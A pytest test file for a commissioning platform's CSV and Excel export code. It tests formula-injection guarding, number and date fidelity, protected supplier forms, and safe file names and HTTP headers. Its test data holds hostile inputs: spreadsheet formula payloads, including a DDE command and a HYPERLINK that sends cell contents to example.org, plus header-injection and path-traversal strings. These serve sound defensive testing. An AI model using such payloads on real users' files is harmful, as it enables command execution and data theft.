"""Files that leave the platform: nothing in them runs, nothing is lost, and each says what it is."""

import csv
import datetime as dt
import io
import itertools
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.chart import BarChart, LineChart

from commissioning.kernel import exports
from commissioning.kernel.exports import FormColumn, Notice, SheetOf, SpreadChart, WorkbookForm, cells
from commissioning.kernel.tables import Column
from commissioning.kernel.wording import Withheld

MADE_AT = dt.datetime(2026, 7, 3, 13, 5, tzinfo=dt.UTC)
NOTICE = Notice("Lot 1: rates", "London Borough of Southwark", MADE_AT, filters="Tier 1, judged Good or better")

LEADS = ["", '"', "' ", ",", ";", "\u200b", "\u00a0 ", '";"', "\t", "\r\n"]
STARTERS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = ["1+1", 'HYPERLINK("http://example.org?x="&A1,"Click")', "cmd|' /C calc'!A0", "SUM(1;2)"]
PAYLOADS = [lead + starter + body for body, starter, lead in itertools.product(BODIES, STARTERS, LEADS)]

COLUMNS = [
    Column("provider", "Provider"),
    Column("rate", "Core 5 to 10", kind="money", unit="£ a week"),
    Column("places", "Places", kind="number"),
    Column("share", "Share", kind="percent"),
    Column("judged_on", "Judged on", kind="date"),
    Column("seen_at", "Seen at", kind="instant"),
    Column("dbs", "Checked", kind="yesno"),
]
ROW = {
    "provider": "Oak Tree Fostering",
    "rate": Decimal("-812.5"),
    "places": 12,
    "share": Decimal("61"),
    "judged_on": dt.date(2025, 11, 4),
    "seen_at": MADE_AT,
    "dbs": True,
}
NOTHING = dict.fromkeys(ROW)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def open_book(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def book_of(rows, columns=COLUMNS, **more) -> openpyxl.Workbook:
    return open_book(exports.workbook_bytes([SheetOf("Rates", columns, rows, **more)], NOTICE))


def harmless(cell: str) -> bool:
    """What a spreadsheet would see first, blanks and quotes aside, is no start of a formula."""
    seen = cell.lstrip(' "\u00a0\u200b\t\r\n')
    return not seen.startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20")) and not cell.startswith(("\t", "\r", "\n"))


def test_payloads_never_become_formulas_in_a_workbook():
    assert len(PAYLOADS) >= 200
    column = [Column("text", "=Heading()")]
    sheet = book_of([{"text": payload} for payload in PAYLOADS], column)["Rates"]
    read = [row[0] for row in sheet.iter_rows()]
    assert {cell.data_type for cell in read} == {"s"}
    assert read[0].value == "=Heading()"
    unified = [payload.replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS]
    assert [cell.value for cell in read[1:]] == unified
    assert all(cell.quotePrefix for cell in read[1:] if not harmless(cell.value))


def test_error_values_and_numbers_in_text_stay_text():
    texts = ["#REF!", "#N/A", "007", "1e5", "2026-03-04", "TRUE"]
    sheet = book_of([{"text": text} for text in texts], [Column("text", "Text")])["Rates"]
    assert [(row[0].value, row[0].data_type) for row in sheet.iter_rows(min_row=2)] == [(t, "s") for t in texts]


def test_payloads_are_harmless_in_csv_whatever_the_delimiter_and_come_back_equal():
    columns = [Column("text", "Text"), Column("next", "Next")]
    read = read_csv(exports.csv_bytes(columns, [{"text": p, "next": p} for p in PAYLOADS]))[1:]
    assert [[exports.unguard(cell) for cell in row] for row in read] == [[p, p] for p in PAYLOADS]
    for row in read:
        assert harmless(row[0])
        for delimiter in ',;|\t\n"':
            assert all(harmless(part.strip("\t\r\n")) for part in row[0].split(delimiter))


@settings(deadline=None)
@given(st.text(alphabet="=+-@\t\r\n ,;|\"'a5\uff1d\u200b", max_size=12) | st.text(max_size=30))
def test_guarding_can_be_undone(text):
    cleaned = exports.text.clean(text)
    assert exports.unguard(exports.guard(text)) == cleaned
    assert harmless(exports.guard(text))


def test_ordinary_text_is_left_alone():
    for text in ("Oak Tree", "St. Helen's", "5-10 years", "a@b.org", "Mother-and-baby, 2+1", "'quoted'"):
        assert exports.guard(text) == text


BETWEEN = "\x1f"
ANY_CELL = st.text(alphabet="=+-@\t\r\n ,;|\"'a5[]\uff1d\u200b\x00\x7f", max_size=4) | st.text(max_size=8)


def as_they_are(cells: list[str]) -> bool:
    """Each cell by itself, by the two that guard and quote it."""
    out = io.StringIO()
    csv.writer(out).writerow([*map(exports.guard, cells), "last"])
    return out.getvalue() == ",".join([*cells, "last\r\n"])


@settings(deadline=None, max_examples=400)
@given(st.lists(ANY_CELL.map(lambda text: text.replace(BETWEEN, "")), min_size=1, max_size=4))
def test_what_is_left_alone_at_a_glance_is_so_cell_by_cell(cells):
    if exports.left_alone(BETWEEN.join(cells).encode("utf-8", "surrogatepass"), BETWEEN.encode()):
        assert as_they_are(cells)


@pytest.mark.parametrize(
    "cell", ["=1", "+1", "-1", "@a", " =1", "'=1", "a,b", "a;=", "a|b", 'a"b', "a\nb", "\ta", "\uff1d"]
)
@pytest.mark.parametrize("place", range(3))
def test_what_may_start_is_seen_in_every_place(cell, place):
    cells = ["plain", "", "5"]
    assert exports.left_alone(BETWEEN.join(cells).encode(), BETWEEN.encode())
    cells[place] = cell
    assert not exports.left_alone(BETWEEN.join(cells).encode(), BETWEEN.encode())


def test_control_characters_are_taken_out():
    columns = [Column("text", "Text")]
    rows = [{"text": "Oak\x00\x07 Tree\ud800\x1b"}]
    assert read_csv(exports.csv_bytes(columns, rows))[1] == ["Oak Tree"]
    assert book_of(rows, columns)["Rates"]["A2"].value == "Oak Tree"


def test_csv_is_plain_for_machines():
    content = exports.csv_bytes(COLUMNS, [ROW, NOTHING])
    assert content.startswith(b"\xef\xbb\xbfprovider,rate,")
    assert content.count(b"\r\n") == content.count(b"\n") == 3
    rows = read_csv(content)
    assert rows[1] == [
        "Oak Tree Fostering", "-812.50", "12", "61", "2025-11-04", "2026-07-03T14:05:00+01:00", "Yes",
    ]  # fmt: skip
    assert rows[2] == [""] * 7


def test_csv_loses_no_decimals_and_writes_no_exponents():
    column = [Column("rate", "Rate", kind="money")]
    amounts = ["812.5050", "1E+3", "0.0001", "-0.5", "99999999.9999"]
    rows = read_csv(exports.csv_bytes(column, [{"rate": Decimal(a)} for a in amounts]))[1:]
    assert [row[0] for row in rows] == ["812.505", "1000.00", "0.0001", "-0.50", "99999999.9999"]


def test_csv_comes_in_pieces_and_with_its_heading_when_there_are_no_rows():
    drawn = []

    def rows():
        for number in range(1200):
            drawn.append(number)
            yield {"n": number}

    chunks = exports.csv_chunks([Column("n", "N", kind="number")], rows())
    first = next(chunks)
    assert len(drawn) == 500
    assert b"".join([first, *chunks]).count(b"\r\n") == 1201
    assert exports.csv_bytes([Column("n", "N")], []) == b"\xef\xbb\xbfn\r\n"
    exact = list(exports.csv_chunks([Column("n", "N")], [{"n": "a"}] * 4, rows_a_chunk=2))
    assert [chunk.count(b"\r\n") for chunk in exact] == [3, 2]


def test_workbook_holds_numbers_dates_and_words():
    sheet = book_of([ROW, NOTHING])["Rates"]
    assert [cell.value for cell in sheet[1]][:2] == ["Provider", "Core 5 to 10 (£ a week)"]
    name, rate, places, share, judged, seen, checked = sheet[2]
    assert (name.value, checked.value) == ("Oak Tree Fostering", "Yes")
    assert (rate.value, rate.number_format, rate.data_type) == (-812.5, "#,##0.00", "n")
    assert (places.value, places.number_format) == (12, "#,##0")
    assert (share.value, share.number_format) == (0.61, "0%")
    assert (judged.value, judged.is_date) == (dt.datetime(2025, 11, 4), True)
    assert seen.value == dt.datetime(2026, 7, 3, 14, 5)
    assert {cell.value for cell in sheet[3]} == {"not recorded"}
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:G3"


@pytest.mark.parametrize("engine", ["openpyxl", "calamine"])
def test_pandas_reads_back_what_was_written(engine):
    rows = [ROW | {"provider": f"Provider {n}", "rate": Decimal(80000 + n) / 100} for n in range(300)]
    content = io.BytesIO(exports.workbook_bytes([SheetOf("Rates", COLUMNS, rows)], NOTICE))
    frame = pd.read_excel(content, "Rates", engine=engine)
    assert len(frame) == 300
    assert [Decimal(str(v)) for v in frame["Core 5 to 10 (£ a week)"]] == [row["rate"] for row in rows]
    assert frame["Judged on"].dt.date.eq(dt.date(2025, 11, 4)).all()
    flat = pd.read_csv(io.BytesIO(exports.csv_bytes(COLUMNS, rows)), dtype={"rate": str})
    assert [Decimal(v) for v in flat["rate"]] == [row["rate"] for row in rows]
    assert flat["provider"].tolist() == frame["Provider"].tolist()


def test_a_withheld_figure_is_a_letter_in_both():
    rows = [ROW | {"rate": Withheld("Fewer than 5 children.")}]
    assert read_csv(exports.csv_bytes(COLUMNS, rows))[1][1] == "c"
    assert book_of(rows)["Rates"]["B2"].value == "c"


@pytest.mark.parametrize("wrong", [Decimal("NaN"), Decimal("Infinity"), float("nan")])
def test_what_is_no_number_is_refused(wrong):
    rows = [ROW | {"rate": wrong}]
    with pytest.raises(ValueError, match="cannot be written"):
        exports.csv_bytes(COLUMNS, rows)
    with pytest.raises(ValueError, match="cannot be written"):
        book_of(rows)


def test_a_workbook_that_fails_half_way_leaves_no_file_behind(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows():
        yield from [ROW] * 200
        assert list(tmp_path.iterdir())
        raise ConnectionError("the database went away")

    with pytest.raises(ConnectionError):
        book_of(rows())
    assert list(tmp_path.iterdir()) == []


def test_long_text_long_numbers_and_old_dates_keep_their_meaning():
    columns = [Column("text", "Text"), Column("number", "Number", kind="number"), Column("on", "On", kind="date")]
    sheet = book_of([{"text": "x" * 40_000, "number": 10**16 + 1, "on": dt.date(1889, 4, 1)}], columns)["Rates"]
    text, number, on = (cell.value for cell in sheet[2])
    assert len(text) == 32_767
    assert text.endswith("[cut here: a cell holds no more]")
    assert (number, on) == ("10000000000000001", "1889-04-01")


def test_the_first_sheet_says_what_the_file_is():
    about = book_of([ROW, ROW])["About this file"]
    said = {row[0].value: row[1].value for row in about.iter_rows()}
    assert said == {
        "What this is": "Lot 1: rates",
        "Made for": "London Borough of Southwark",
        "Made on": "3 July 2026 at 2:05pm",
        "Filters": "Tier 1, judged Good or better",
        "Number of rows": 2,
    }
    whole = open_book(exports.workbook_bytes([SheetOf("A", COLUMNS, [ROW]), SheetOf("a", COLUMNS, [])], NOTICE))
    assert whole.sheetnames == ["About this file", "A", "a 2"]
    assert [row[1].value for row in whole["About this file"].iter_rows()][4:] == [1, 1, 0]


def test_sheet_names_are_ones_that_excel_takes():
    wide = "Independent fostering: standard and enhanced [2026/27]"
    names = exports.workbook.sheet_names([wide, wide, "'History'", "  ", "a/b*c?"])
    assert names == [
        "Independent fostering standard", "Independent fostering standar 2", "History of changes", "Sheet", "a b c",
    ]  # fmt: skip
    assert all(len(name) <= 31 for name in names)


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch):
    monkeypatch.setattr(exports.workbook, "MOST_ROWS", 3)
    with pytest.raises(ValueError, match="More than 3 rows"):
        book_of([ROW] * 4)
    assert book_of([ROW] * 3)["Rates"].max_row == 4


def test_the_notice_fits_an_http_header():
    notice = Notice('Rates "A"\r\nX-Evil: 1', "Café Borough \N{EN DASH} £", MADE_AT, filters="Over £800\\")
    header = notice.header(12)
    assert header == (
        'title="Rates \'A\' X-Evil: 1"; viewer="Cafe Borough - GBP"; made-at="2026-07-03T14:05:00+01:00"; '
        'filters="Over GBP 800/"; rows="12"'
    )
    assert header.isascii()
    assert header.isprintable()
    assert "rows=" not in notice.header()


def test_file_names_are_safe_anywhere():
    today = dt.date(2026, 3, 3)
    assert exports.file_name("Lot 1: rates", "London Borough of Southwark", today, "csv") == (
        "lot-1-rates-london-borough-of-southwark-2026-03-03.csv"
    )
    assert exports.file_name("../../etc/passwd\x00", "St. Helen's", today, ".xlsx") == (
        "etc-passwd-st-helens-2026-03-03.xlsx"
    )
    assert exports.file_name("", "", today, "csv") == "export-2026-03-03.csv"
    assert len(exports.file_name("x" * 500, "y" * 500, today, "xlsx")) <= 150


SPREAD = [
    Column("line", "Price line"),
    Column("lower_quartile", "Lower quartile", kind="money"),
    Column("median", "Median", kind="money"),
    Column("upper_quartile", "Upper quartile", kind="money"),
]
SPREAD_ROWS = [
    {"line": f"Line {n}", "lower_quartile": Decimal(800), "median": Decimal(850), "upper_quartile": Decimal(900)}
    for n in range(6)
]


@pytest.mark.parametrize(("kind", "made"), [("dots", LineChart), ("columns", BarChart), ("lines", LineChart)])
def test_native_charts_draw_the_cells_beside_them(kind, made):
    keys = ["lower_quartile", "median", "upper_quartile"]
    chart = SpreadChart("What each line costs", "line", keys, unit="£ a week", ours="median", kind=kind)
    [drawn] = book_of(SPREAD_ROWS, SPREAD, chart=chart)["Rates"]._charts
    assert isinstance(drawn, made)
    assert [series.val.numRef.f for series in drawn.series] == [f"'Rates'!${c}$2:${c}$7" for c in "BCD"]
    assert {(series.cat.numRef or series.cat.strRef).f for series in drawn.series} == {"'Rates'!$A$2:$A$7"}
    assert not drawn.title.overlay
    assert not drawn.x_axis.delete
    assert not drawn.y_axis.delete


def test_a_chart_of_columns_that_are_not_there_is_refused_and_of_no_rows_not_drawn():
    chart = SpreadChart("Costs", "line", ["mean"])
    with pytest.raises(ValueError, match="mean"):
        book_of(SPREAD_ROWS, SPREAD, chart=chart)
    assert book_of([], SPREAD, chart=chart)["Rates"]._charts == []


FORM = WorkbookForm(
    sheet="Rates",
    columns=[
        FormColumn("code", "Price line", locked=True, width=12),
        FormColumn("unit", "Unit", locked=True),
        FormColumn("amount", "Rate (£)", kind="money", hint="Pounds and pence, without VAT"),
        FormColumn("included", "Education included", kind="choice", choices=["Yes", "No, it's extra"]),
        FormColumn("from", "Applies from", kind="date"),
        FormColumn("note", "Note", hint="Anything we should know"),
    ],
    rows=[{"code": "CORE-5-10", "unit": "a week", "amount": Decimal("812.5")}, {"code": "=1+1", "unit": "a night"}],
    instructions=["Fill in one rate for each price line.", "Send the file back."],
    notice=NOTICE,
    reference={"form": "rates", "lot": "IFA-1"},
)


def test_a_form_locks_what_must_not_change_and_frees_what_is_asked():
    book = open_book(FORM.build())
    assert book.sheetnames == ["Instructions", "Rates", "Lists", "Reference"]
    assert [sheet.sheet_state for sheet in book] == ["visible", "visible", "hidden", "hidden"]
    assert all(sheet.protection.sheet and not sheet.protection.password for sheet in book)
    sheet = book["Rates"]
    locked = [[cell.protection.locked for cell in row] for row in sheet.iter_rows()]
    assert locked == [[True] * 6, [True] * 2 + [False] * 4, [True] * 2 + [False] * 4]
    assert sheet.freeze_panes == "C2"
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
    assert (sheet["C2"].value, sheet["C2"].number_format) == (812.5, "#,##0.00##")
    assert sheet["C3"].value is None


def test_a_form_offers_lists_and_checks_numbers_and_dates():
    book = open_book(FORM.build())
    rules = {str(rule.sqref): rule for rule in book["Rates"].data_validations.dataValidation}
    assert set(rules) == {"C2:C3", "D2:D3", "E2:E3", "F2:F3"}
    assert (rules["C2:C3"].type, rules["C2:C3"].formula1) == ("decimal", "0")
    assert rules["C2:C3"].prompt == "Pounds and pence, without VAT"
    assert (rules["D2:D3"].type, rules["D2:D3"].formula1) == ("list", "Lists!$A$2:$A$3")
    assert [cell.value for cell in book["Lists"]["A"]] == ["Education included", "Yes", "No, it's extra"]
    assert (rules["E2:E3"].type, rules["E2:E3"].formula1) == ("date", "DATE(2000,1,1)")
    assert list(book["Reference"].iter_rows(values_only=True)) == [("form", "rates"), ("lot", "IFA-1")]


def test_a_form_has_spare_rows_that_are_free_in_every_column():
    sheet = open_book(replace(FORM, spare=3).build())["Rates"]
    assert sheet.max_row == 6
    for line in sheet.iter_rows(min_row=4):
        assert [cell.value for cell in line] == [None] * 6
        assert not any(cell.protection.locked for cell in line)
        assert [cell.number_format for cell in line] == [cell.number_format for cell in sheet[2]]
    assert [cell.protection.locked for cell in sheet[3]] == [True] * 2 + [False] * 4
    assert {str(rule.sqref) for rule in sheet.data_validations.dataValidation} == {"C2:C6", "D2:D6", "E2:E6", "F2:F6"}


def test_a_form_says_how_to_fill_it_in():
    rows = open_book(FORM.build())["Instructions"].iter_rows(values_only=True)
    said = [value for row in rows for value in row if value]
    assert said[0] == "Lot 1: rates"
    assert "Fill in one rate for each price line." in said
    assert "Made for: London Borough of Southwark" in said
    with pytest.raises(ValueError, match="choices"):
        FormColumn("x", "X", kind="choice")


def test_rejected_rows_come_back_marked():
    row = exports.RejectedRow(
        7,
        ["CORE-5-10", "=2*400", 812.5, dt.date(2026, 4, 1), None],
        [exports.Fault("This is not a price line of the lot.", 0), exports.Fault("Type a rate.", 1)],
    )
    other = exports.RejectedRow(9, ["X"], [exports.Fault("This row is there twice.")])
    sheet = exports.RejectedSheet("Rates", ["Price line", "Rate", None], [row, other])
    book = open_book(exports.rejects_workbook([sheet], NOTICE))
    assert book.sheetnames == ["Rates", "About this file"]
    made = book["Rates"]
    headings, first, second = made.iter_rows()
    assert [cell.value for cell in headings] == ["Price line", "Rate", None, None, None, "What to change"]
    assert [cell.value for cell in first][:4] == ["CORE-5-10", "=2*400", 812.5, dt.datetime(2026, 4, 1)]
    assert first[1].data_type == "s"
    assert [cell.fill.fgColor.rgb[-6:] == "F8D3D0" for cell in first] == [True, True, False, False, False, False]
    assert first[0].comment.text == "This is not a price line of the lot."
    assert first[5].value == "Row 7: This is not a price line of the lot. Type a rate."
    assert second[5].value == "Row 9: This row is there twice."
    assert second[0].comment is None


def test_a_fault_beyond_the_row_is_refused():
    row = exports.RejectedRow(7, ["a"], [exports.Fault("No.", 4)])
    with pytest.raises(ValueError, match="no column 4"):
        exports.rejects_workbook([exports.RejectedSheet("Rates", ["A"], [row])], NOTICE)


def test_a_row_written_as_text_is_what_openpyxl_makes_of_it():
    """Value, format, font, quote and wrapping of each cell, against openpyxl's own road; every value twice, as the
    second time it is remembered."""
    awkward = [
        " two blanks ", "<b>&amp;</b> \"'", "line\r\nline", "\u2028", "x" * 61, "=1+1", "", None, 0, -7,
        Decimal("1.50"), Decimal("1.5"), 1.5, True, False, dt.date(2025, 11, 4), dt.date(1899, 1, 1), MADE_AT,
        Withheld("Too few"), ["a", "list"],
    ]  # fmt: skip
    columns = [Column(kind, kind.capitalize(), value=lambda row: row, kind=kind)
               for kind in ("text", "money", "number", "percent", "date", "instant", "yesno", "tag")]  # fmt: skip
    for column in columns:
        rows = [each for each in awkward if not (column.kind in ("money", "number", "percent") and each is True)] * 2
        made, plain = io.BytesIO(), io.BytesIO()
        with exports.streamed(made, NOTICE) as book:
            assert exports.write_sheet(book, "Rows", SheetOf("Rows", [column], rows)) == len(rows)
        with exports.streamed(plain, NOTICE) as book:
            sheet = book.create_sheet("Rows")
            sheet.append([None])
            for row in rows:
                cell = cells.cell(sheet, row, column)
                if isinstance(cell.value, str) and len(cell.value) > 60:
                    cell.alignment = cells.WRAPPED_LEFT
                sheet.append([cell])

        assert _cells(made) == _cells(plain), column.kind


def _cells(content: io.BytesIO) -> list[tuple]:
    rows = open_book(content.getvalue())["Rows"].iter_rows(min_row=2)
    return [
        (each.value, each.data_type, each.number_format, each.font.i, each.quotePrefix, each.alignment.wrap_text)
        for (each,) in rows
    ]
